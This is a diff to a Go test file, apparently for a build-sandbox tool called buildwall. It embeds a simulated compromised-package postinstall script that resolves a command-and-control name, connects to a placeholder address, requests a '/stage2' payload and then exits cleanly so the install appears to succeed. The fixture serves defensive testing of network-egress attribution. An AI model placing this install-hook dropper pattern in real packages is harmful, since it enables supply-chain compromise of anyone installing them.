@@ -90,16 +90,23 @@ func (r *fakeRegistry) ServeHTTP(w http.ResponseWriter, req *http.Request) {
 }
 
 // postinstall is what a compromised package runs: it looks up a
-// command-and-control name and connects to a hard-coded address, then
-// exits 0 so that the install itself succeeds (as real droppers do).
+// command-and-control name and asks a hard-coded address for its second
+// stage (as the axios dropper did), then exits 0 so that the install itself
+// succeeds (as real droppers do). It waits for the answer: a client that
+// closes its socket right after connect() returns (the kernel completes the
+// handshake before buildwall accepts) may be gone before attribution looks.
 const postinstall = `
 const dns = require('dns'), net = require('net');
 let pending = 2;
 const done = () => { if (--pending === 0) process.exit(0); };
 dns.lookup('c2.exfil.test', (err, addr) => { console.log('lookup', err ? err.code : addr); done(); });
+let over = false;
+const sockDone = (what) => { if (!over) { over = true; console.log('connect', what); done(); } };
 const s = net.connect({host: '192.0.2.10', port: 8000});
-s.on('connect', () => { console.log('connected'); s.destroy(); done(); });
-s.on('error', (e) => { console.log('connect', e.code); done(); });
+s.on('connect', () => s.write('GET /stage2 HTTP/1.1\r\nHost: 192.0.2.10:8000\r\n\r\n'));
+s.on('data', () => { sockDone('answered'); s.destroy(); });
+s.on('error', (e) => sockDone(e.code));
+s.on('close', () => sockDone('closed'));
 setTimeout(() => process.exit(0), 10000);
 `
 
